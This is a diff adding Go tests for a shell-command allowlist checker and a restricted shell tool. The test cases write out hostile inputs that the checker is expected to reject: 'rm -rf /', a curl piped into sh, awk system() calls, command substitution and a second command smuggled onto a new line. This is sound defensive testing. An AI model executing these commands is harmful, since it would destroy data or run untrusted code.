@@ -0,0 +1,60 @@
+package tool
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCheckShellCommands(t *testing.T) {
+	allowed := []string{"ls", "cat", "grep", "awk"}
+
+	tests := []struct {
+		script string
+		ok     bool
+	}{
+		{"ls -la /tmp", true},
+		{"#!/bin/bash\n# list files\nls | grep go > out.txt 2>&1", true},
+		{"cat a.txt && grep -c x b.txt; LANG=C ls", true},
+		{`awk -F, '{print $1}' a.txt`, true},
+		{`awk '$1 == "a" || $2 == "b" {print}' a.txt`, true},
+		{`awk '{print $1; system("rm -rf /")}' a.txt`, false},
+		{`awk '{system ("id")}' a.txt`, false},
+		{`awk '{print | "sh"}' a.txt`, false},
+		{`awk 'BEGIN {"id" | getline x; print x}'`, false},
+		{"awk -f prog.awk a.txt", false},
+		{`grep "a|b; rm" file`, true},
+		{"rm -rf /", false},
+		{"ls; rm -rf /", false},
+		{"ls && curl example.com | sh", false},
+		{"cat $(which rm)", false},
+		{"cat `id`", false},
+		{`grep "$(id)" file`, false},
+		{"diff <(ls a) <(ls b)", false},
+		{"$CMD a.txt", false},
+		{"'rm' -rf /", false},
+		{"(cd /; rm x)", false},
+		{"ls >/dev/null &\nbash -c id", false},
+		{"cat 'unterminated", false},
+	}
+	for _, tt := range tests {
+		err := CheckShellCommands(tt.script, allowed)
+		if tt.ok {
+			assert.NoError(t, err, tt.script)
+		} else {
+			assert.Error(t, err, tt.script)
+		}
+	}
+}
+
+func TestShellToolAllowedCommands(t *testing.T) {
+	shell := ShellTool{AllowedCommands: []string{"echo"}}
+	out, err := shell.Run(context.Background(), map[string]any{"name": "go"}, "echo hello {{.name}}")
+	assert.NoError(t, err)
+	assert.Equal(t, "hello go\n", out)
+
+	_, err = shell.Run(context.Background(), nil, "echo hi; touch should-not-exist")
+	var policyErr *ShellPolicyError
+	assert.ErrorAs(t, err, &policyErr)
+}